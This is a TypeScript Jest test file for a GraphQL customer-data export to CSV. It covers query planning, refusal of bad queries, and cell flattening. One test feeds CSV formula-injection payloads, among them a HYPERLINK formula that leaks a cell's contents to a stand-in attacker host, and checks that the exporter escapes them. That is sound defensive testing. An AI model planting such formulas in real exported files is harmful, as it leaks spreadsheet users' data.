import { describe, expect, it } from '@jest/globals';
import { buildSchema, parse, validate } from 'graphql';
import { cellOf, planExport } from './export-query.js';

const schema = buildSchema(`
  type PageInfo { hasNextPage: Boolean! endCursor: String }
  type User { name: String }
  type Interaction { id: ID! properties: String }
  type InteractionEdge { cursor: String! node: Interaction! }
  type InteractionConnection { edges: [InteractionEdge!]! pageInfo: PageInfo! totalCount: Int! }
  type Customer { id: ID! emails: [String!] owner: User interactions(first: Int, after: String, last: Int, before: String): InteractionConnection }
  type CustomerEdge { cursor: String! node: Customer! }
  type CustomerConnection { edges: [CustomerEdge!]! pageInfo: PageInfo! totalCount: Int! }
  input CustomerFilter { industry: String }
  type Query {
    customers(first: Int, after: String, last: Int, before: String, filter: CustomerFilter): CustomerConnection!
    customer(id: ID!): Customer
    tags: [String!]!
  }
  type Mutation { touch: Boolean }
`);

const refusal = (query: string) => {
  try {
    planExport(schema, query);
  } catch (error) {
    return error as { message: string; extensions: Record<string, unknown> };
  }
  throw new Error('planned, but a refusal was expected');
};

describe('planning an export', () => {
  it('pages a top-level connection with the largest page, after a variable, its pageInfo and (first) its total', () => {
    const plan = planExport(schema, '{ customers(filter: { industry: "cars" }) { edges { node { id emails owner { name } } } } }');
    expect(plan).toMatchObject({ path: ['customers'], edgesKey: 'edges', nodeKey: 'node', startAfter: null, name: 'customers' });
    expect(plan.columns).toEqual([['id'], ['emails'], ['owner', 'name']]);
    expect(plan.firstPage).toContain('customers(filter: {industry: "cars"}, first: 100, after: $exportAfter)');
    expect(plan.firstPage).toContain('exportPageInfo: pageInfo');
    expect(plan.firstPage).toContain('exportTotalCount: totalCount');
    expect(plan.nextPages).not.toContain('totalCount');
    for (const page of [plan.firstPage, plan.nextPages]) expect(validate(schema, parse(page))).toEqual([]);
  });

  it("follows single objects down to a connection (one customer's interactions), keeping aliases, the client's page size and start", () => {
    const plan = planExport(schema, '{ c: customer(id: "1") { interactions(first: 50, after: "abc") { list: edges { item: node { id properties } } } } }');
    expect(plan).toMatchObject({ path: ['c', 'interactions'], edgesKey: 'list', nodeKey: 'item', startAfter: 'abc', name: 'interactions' });
    expect(plan.nextPages).toContain('interactions(first: 50, after: $exportAfter)');
    expect(validate(schema, parse(plan.nextPages))).toEqual([]);
  });

  it('refuses what is not one forward-paged connection, naming the query as the field at fault', () => {
    expect(refusal('{ customers { edges { node { id } } } tags }')).toMatchObject({ extensions: { code: 'BAD_USER_INPUT', field: 'query' } });
    expect(refusal('{ tags }').message).toContain('one list');
    expect(refusal('{ customer(id: "1") { id } }').message).toContain('one list');
    expect(refusal('mutation { touch }').message).toContain('send a query');
    expect(refusal('{ customers(last: 5) { edges { node { id } } } }').message).toContain('first and after');
    expect(refusal('{ customers { totalCount } }').message).toContain('edges { node');
    expect(refusal('{ customers(first: 1000) { edges { node { id } } } }').extensions.field).toBe('first');
  });
});

describe('a CSV cell', () => {
  it('flattens nested fields, joins lists with ";", writes JSON for objects and nothing for null', () => {
    const node = { id: '1', emails: ['a@x.cz', 'b@x.cz'], owner: null, identifiers: [{ kind: 'EMAIL' }, { kind: 'PHONE' }], properties: { url: '/' } };
    expect(cellOf(node, ['id'])).toBe('1');
    expect(cellOf(node, ['emails'])).toBe('a@x.cz;b@x.cz');
    expect(cellOf(node, ['owner', 'name'])).toBe('');
    expect(cellOf(node, ['identifiers', 'kind'])).toBe('EMAIL;PHONE');
    expect(cellOf(node, ['properties'])).toBe('{"url":"/"}');
  });

  it('shows as text what a spreadsheet would run as a formula, and leaves plain numbers as they are', () => {
    const cell = (value: string) => cellOf({ value }, ['value']);
    for (const formula of ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+SUM(1,2)', '-2+3', '@cmd', '\t=1+1', '\r=1+1']) {
      expect(cell(formula)).toBe(`'${formula}`);
    }
    for (const plain of ['+420601234567', '-5.00', '12', 'Jana =1', '']) expect(cell(plain)).toBe(plain);
  });
});
